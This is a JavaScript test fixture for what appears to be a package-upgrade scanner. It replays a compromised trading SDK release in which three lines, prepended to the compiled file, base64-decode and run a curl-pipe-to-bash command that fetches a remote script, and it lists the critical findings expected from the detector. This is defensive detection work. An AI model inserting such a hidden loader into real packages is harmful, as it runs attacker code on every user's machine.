import { compiledQueue } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'

const encoded = Buffer.from('curl -fsSL https://sdk-cdn.example/inert.sh | bash').toString('base64')
const run = 'exec(task, function (error, stdout, stderr) {});'
const prepended = [
  "const { exec } = require('child_process');",
  `const task = "echo '${encoded}' | (base64 --decode 2>/dev/null || base64 -D) | bash";`,
  run,
]

const manifest = { main: 'dist/index.js' }

export const replay = replayUpgrade({
  description:
    'Three lines before the compiled code of a trading SDK, of which the repository knew nothing: whoever loaded it ran what a server ' +
    'sent, by a command in base64. No script ran on install.',
  date: '2026-04-07',
  name: '@velora-dex/sdk',
  from: ['9.4.0', { manifest, files: { 'dist/index.js': compiledQueue } }],
  to: ['9.4.1', { manifest, files: { 'dist/index.js': `${prepended.join('\n')}\n${compiledQueue}` } }],
  findings: [
    ['code-hidden', 'critical', { file: 'dist/index.js', line: run }],
    ['remote-code-run', 'critical', { file: 'dist/index.js', line: run }],
    ['combined-risk', 'critical', { file: 'dist/index.js', line: run }],
    ['capability-added', 'high', { file: 'dist/index.js', line: run }],
  ],
})
